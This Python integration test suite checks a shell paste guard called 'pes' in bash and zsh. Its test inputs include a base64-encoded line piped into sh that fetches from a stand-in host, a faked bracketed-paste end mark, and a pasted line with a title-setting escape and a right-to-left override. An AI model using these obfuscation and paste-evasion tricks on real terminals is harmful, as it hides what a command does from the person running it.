#!/usr/bin/env python3
"""The shell guard in a real bash or zsh on a terminal: shell_guard.py bash|zsh

Wants the environment of tools/private_pes with the configuration in tests/integration/two-scripted.
"""
import base64
import json
import os
import pathlib
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "support"))

import tap
from guarded_shell import GuardedShell
from pty_drive import words

SHELL = sys.argv[1]
ANSWER_SECONDS = 0.8 + 0.25  # the guard's deadline and what the library may take on top
SCHEDULING_SECONDS = 1.0  # two starts of a program on a machine that is busy with other tests


def encoded(command):
    return f"echo {base64.b64encode(command.encode()).decode()} | base64 -d | sh"


def n_questions():
    """How many questions the service has answered so far."""
    text = subprocess.run(["pes", "report", "--json"], capture_output=True, text=True, check=True).stdout
    return json.loads(text)["scans"]


def guarded(**arguments):
    return GuardedShell(SHELL, **arguments)


def nowhere(policy=None):
    """The environment of a machine where nothing listens; without a policy pes is not installed."""
    folder = tempfile.mkdtemp(prefix="pes-nowhere.")
    path = ""  # none; one that is named must be there
    if policy is not None:
        path = os.path.join(folder, "client.conf")
        with open(path, "w", encoding="utf-8") as file:
            file.write(policy)
    return {"PES_RUNTIME_DIR": folder, "PES_CLIENT_POLICY": path}


def test_stops():
    """a pasted line that decodes and runs is stopped, and the person reads who, why, what it does and what next"""
    with guarded() as shell:
        shell.paste_line(encoded("touch harm; curl -fsS https://get.example.invalid/x"))
        shell.expect(r"^pes: STOPPED  echo dG91Y2gg")
        shell.expect(r"Why: ")
        shell.expect(words(r"yara says that it is malicious"))
        shell.expect(r"Details: +yara \S+: \S*Encoded_Into_Shell \(malicious, severity high")
        shell.expect(words(r"Decodes to: touch harm; curl -fsS https://get.example.invalid/x"))
        shell.expect(r"Now: +\w")
        shell.expect(r"Reference: +PES-101 [0-9A-Z]{4}-[0-9A-Z]{2}")
        shell.ready()
        assert shell.command("echo still-$((1+1))") == "still-2"
        assert not shell.made("harm")


def test_history():
    """a stopped line is the newest entry of the history, and running that entry does nothing"""
    with guarded() as shell:
        shell.paste_line(encoded("touch harm"))
        shell.expect("STOPPED")
        shell.ready()
        shell.send("\x1b[A")
        shell.expect("stopped by pes.*base64")
        shell.send("\r")
        shell.ready()
        assert not shell.made("harm")


def test_typed():
    """a typed line runs and nobody is asked, also after a pasted one and after an interrupted one"""
    with guarded() as shell:
        before = n_questions()
        assert shell.command("echo typed-$((1+1))") == "typed-2"
        assert n_questions() == before
        shell.paste_line("echo pasted-$((1+1))")
        shell.expect("^pasted-2")
        shell.ready()
        assert n_questions() == before + 1
        shell.command("echo typed-again")
        shell.paste("echo never")
        shell.expect("never")
        shell.interrupt()
        shell.command("echo typed-at-last")
        assert n_questions() == before + 1


def test_good():
    """a pasted line in which nothing is found runs without a word"""
    with guarded() as shell:
        mark = shell.mark()
        shell.paste_line("echo pasted-$((2+3))")
        shell.expect("^pasted-5")
        shell.ready()
        assert "pes:" not in shell.since(mark), shell.since(mark)


def test_lines():
    """several pasted lines are one question, and all of them run or none"""
    with guarded() as shell:
        before = n_questions()
        shell.paste_line("echo one-$((0+1))\necho two-$((1+1))")
        shell.expect("^one-1")
        shell.expect("^two-2")
        shell.ready()
        assert n_questions() == before + 1
        shell.paste_line("touch first\n" + encoded("touch second") + "\ntouch third")
        shell.expect("STOPPED")
        shell.ready()
        shell.command("true")
        assert not shell.made("first") and not shell.made("second") and not shell.made("third")


def test_edited():
    """a pasted line that was edited is asked about as it is now"""
    with guarded() as shell:
        shell.paste("echo edited # PES-SCRIPT: @alpha found Edited.Line mali")
        shell.send("cious\r")
        shell.expect("STOPPED")
        shell.expect(r"alpha \S+: Edited.Line \(malicious")
        shell.ready()


def suspicious(command):
    return f"{command} # PES-SCRIPT: @alpha found Test.Suspicion suspicious"


def test_yes_and_no():
    """a suspicious line runs after y, and after nothing else"""
    with guarded(setup="setopt interactive_comments" if SHELL == "zsh" else "") as shell:
        for key, name, runs in (("n", "no", False), ("\r", "enter", False), ("\x03", "interrupt", False), ("y", "yes", True)):
            shell.paste_line(suspicious(f"touch {name}"))
            shell.expect(r"WAIT  touch")
            shell.expect(r"alpha \S+: Test.Suspicion \(suspicious")
            shell.expect(r"Run it anyway\? \[y/N\] ")
            shell.send(key)
            shell.ready()
            shell.command("true")
            assert shell.made(name) == runs, f"{name}: {shell.shown}"


def test_keys_before():
    """keys that were there before the question do not answer it"""
    with guarded() as shell:
        shell.paste(suspicious("touch harm"))
        shell.send("\ryyyy")
        shell.expect(r"Run it anyway\? \[y/N\] ")
        shell.send("n")
        shell.ready()
        shell.command("true")
        assert not shell.made("harm")


def test_end_mark():
    """a line behind a faked end of the paste is asked about, too"""
    with guarded() as shell:
        shell.send("\x1b[200~echo first\x1b[201~\r" + encoded("touch harm") + "\r")
        shell.expect("STOPPED  echo dG91Y2gg")
        shell.ready()
        shell.command("true")
        assert not shell.made("harm")


def test_keys():
    """every key that accepts a line asks first"""
    for key in ("\n", "\x0f") if SHELL == "bash" else ("\n",):
        with guarded() as shell:
            shell.paste(encoded("touch harm"))
            shell.send(key)
            shell.expect("STOPPED")
            shell.ready()
            shell.command("true")
            assert not shell.made("harm")


def test_vi():
    """it guards in vi mode, in insert and in command state"""
    with guarded(setup="set -o vi" if SHELL == "bash" else "bindkey -v; KEYTIMEOUT=1") as shell:
        shell.paste_line(encoded("touch harm"))
        shell.expect("STOPPED")
        shell.ready()
        shell.paste(encoded("touch harm"))
        shell.expect("base64 -d")
        shell.send("\x1b")
        time.sleep(0.7)  # vi mode itself tells an escape from a key by waiting
        shell.send("\r")
        shell.expect("STOPPED")
        assert not shell.made("harm")


def test_own_keys():
    """a key that somebody bound before keeps its meaning"""
    setup = "bind '\"\\C-m\": \"\\C-e --own\\C-j\"'" if SHELL == "bash" else (
        "own() { BUFFER+=' --own'; zle .accept-line }; zle -N accept-line own"
    )
    with guarded(setup=setup) as shell:
        shell.paste_line("echo pasted")
        shell.expect("^pasted --own")
        shell.ready()
        shell.type_line("echo typed")
        shell.expect("^typed --own")


def test_literal_next():
    """a paste behind the key that takes the next one literally is asked about, too"""
    for text in (encoded("touch harm") + "\n", "\n" + encoded("touch harm") + "\n", "true;" + encoded("touch harm")):
        with guarded() as shell:
            shell.send("\x16")
            shell.paste(text)
            shell.send("\r")
            shell.expect("STOPPED")
            shell.ready()
            shell.command("true")
            assert not shell.made("harm"), text


def test_vi_command_paste():
    """in vi mode a paste in command state is asked about before a line of it runs"""
    with guarded(setup="set -o vi" if SHELL == "bash" else "bindkey -v; KEYTIMEOUT=1") as shell:
        shell.send("\x1b")
        time.sleep(0.7)  # as above
        shell.paste("i" + encoded("touch harm") + "\n")
        shell.send("\r")
        shell.expect("STOPPED")
        shell.ready()
        assert not shell.made("harm")


def test_own_widgets():
    """a key with a widget of somebody's own that accepts the line asks first, and typed lines run"""
    if SHELL != "zsh":
        tap.skip("bash has no widgets")
    for accept in ("accept-line", ".accept-line"):
        setup = f"own() {{ zle {accept} }}; zle -N own; bindkey '^M' own"
        with guarded(setup=setup) as shell:
            assert shell.command("echo typed") == "typed"
            shell.paste_line(encoded("touch harm"))
            shell.expect("STOPPED")
            shell.ready()
            shell.paste_line("touch fine")
            shell.ready()
            assert shell.command("echo typed") == "typed"
            assert not shell.made("harm") and shell.made("fine")


def test_comment_key():
    """the key that makes a comment of the line asks, since it comments the first of several out only"""
    if SHELL != "bash":
        tap.skip("zsh has no such key in its usual mode")
    with guarded() as shell:
        shell.paste("true\n" + encoded("touch harm"))
        shell.send("\x1b#")
        shell.expect("STOPPED")
        shell.ready()
        shell.command("true")
        assert not shell.made("harm")


def test_parts():
    """a command that is pasted in parts is asked about as a whole, and given up as a whole"""
    with guarded() as shell:
        shell.paste_line("echo one '")
        shell.expect("> ")
        shell.paste_line("x' # PES-SCRIPT: @alpha found Test.Parts malicious")
        shell.expect("STOPPED  echo one")
        shell.ready()
        assert shell.command("echo whole-$((1+1))") == "whole-2"


def test_interrupt_while_asked():
    """an interrupt while the service is asked loses nothing: the line is in the history"""
    with guarded() as shell:
        shell.paste("touch harm # PES-SCRIPT: @beta hang")
        shell.expect("beta hang")
        shell.send("\r")
        time.sleep(0.3)  # the hook is started and asks; the answer takes 0.8 s
        shell.send("\x03")
        shell.expect(r"Run it anyway\? \[y/N\] ")
        shell.send("n")
        shell.ready()
        shell.send("\x1b[A")
        shell.expect("stopped by pes.*touch harm")
        assert not shell.made("harm")


def test_answers_to_programs():
    """what is pasted for a program that reads a line with the shell's editor is not asked about"""
    if SHELL != "zsh":
        tap.skip("bash does not tell a program's line from its own")
    with guarded() as shell:
        before = n_questions()
        shell.type_line("x=; vared -p 'name: ' x; echo got-$x")
        shell.expect("^name: ")
        shell.paste_line("token-$((1+1))")
        shell.expect(r"^got-token")
        shell.ready()
        assert n_questions() == before


def test_put_aside():
    """a pasted line that is put aside and comes back is asked about when it runs"""
    if SHELL != "zsh":
        tap.skip("bash puts no line aside")
    with guarded() as shell:
        shell.paste(encoded("touch harm"))
        shell.send("\x1bq")
        shell.type_line("echo between-$((1+1))")
        shell.expect("^between-2")
        shell.expect("base64 -d")
        shell.send("\r")
        shell.expect("STOPPED")
        shell.ready()
        assert not shell.made("harm")


def test_escapes():
    """escape sequences in a pasted line reach the terminal only as text"""
    with guarded() as shell:
        shell.paste_line("echo \x1b]0;title\x07\u202e # PES-SCRIPT: @alpha found Test.Escapes malicious")
        shell.expect(r"STOPPED  echo (.*)")
        shell.ready()
        assert b"\x1b]0;title" not in shell.raw and "\u202e".encode() not in shell.raw.split(b"STOPPED")[1]


def test_crash_and_hang():
    """a provider that dies and one that hangs are named by the deadline, and the shell lives"""
    with guarded() as shell:
        shell.command("true")
        pid = shell.command("echo $$")
        shell.paste("touch both # PES-SCRIPT: @alpha crash SEGV; @beta hang")
        shell.expect("beta hang")
        start = time.monotonic()
        shell.send("\r")
        shell.expect(words(r"alpha could not look: its worker died by SIGSEGV"))
        shell.expect(words(r"beta did not answer in time"))
        shell.expect(words(r"alpha \S+: crashed, SIGSEGV after (< )?\d+ ms"))
        shell.expect(words(r"beta \S+: timeout after \d+ ms"))
        shell.expect(r"Run it anyway\? \[y/N\] ")
        took = time.monotonic() - start
        shell.send("n")
        shell.ready()
        assert took < ANSWER_SECONDS + SCHEDULING_SECONDS, f"{took:.3f} s"
        assert shell.command("echo $$") == pid
        assert not shell.made("both")


def test_not_installed():
    """without pes installed it is silent and everything runs"""
    with guarded(env=nowhere()) as shell:
        mark = shell.mark()
        shell.paste_line(encoded("touch ran"))
        shell.ready()
        shell.command("true")
        assert shell.made("ran") and "pes:" not in shell.since(mark), shell.since(mark)


def test_removed():
    """a shell that outlives the guard's program goes on without it"""
    with guarded() as shell:
        shell.command("__pes_guard=/nonexistent/pes-shell-guard")
        shell.paste_line("touch ran")
        shell.ready()
        shell.command("true")
        assert shell.made("ran")


def test_guard_crashes():
    """a guard program that fails itself lets nothing run and says so"""
    with guarded() as shell:
        shell.command("printf '#!/bin/sh\\nkill -SEGV $$\\n' > broken; chmod +x broken; __pes_guard=$PWD/broken")
        shell.paste_line("touch harm")
        shell.expect(r"the shell guard failed \(status 139\)")
        shell.ready()
        shell.command("true")
        assert not shell.made("harm")


def test_down_default():
    """with pes installed but down it asks"""
    with guarded(env=nowhere("")) as shell:
        shell.paste_line("touch ran")
        shell.expect("WAIT  touch ran")
        shell.expect(r"Run it anyway\? \[y/N\] ")
        shell.send("y")
        shell.ready()
        shell.command("true")
        assert shell.made("ran")


def test_down_deny():
    """with pes down and `down = deny` nothing that was pasted runs"""
    with guarded(env=nowhere("down = deny\n")) as shell:
        shell.paste_line("touch harm")
        shell.expect("STOPPED  touch harm")
        shell.ready()
        shell.command("true")
        assert not shell.made("harm")


def test_scripts():
    """in a shell that nobody types into it does nothing"""
    result = subprocess.run(
        [SHELL, "-c", f'eval "$(pes-shell-guard init {SHELL})"; echo "${{__pes_session-none}}"'],
        capture_output=True,
        text=True,
        check=True,
    )
    assert result.stdout == "none\n" and result.stderr == "", result


if __name__ == "__main__":
    tap.run(globals(), set(sys.argv[2:]))
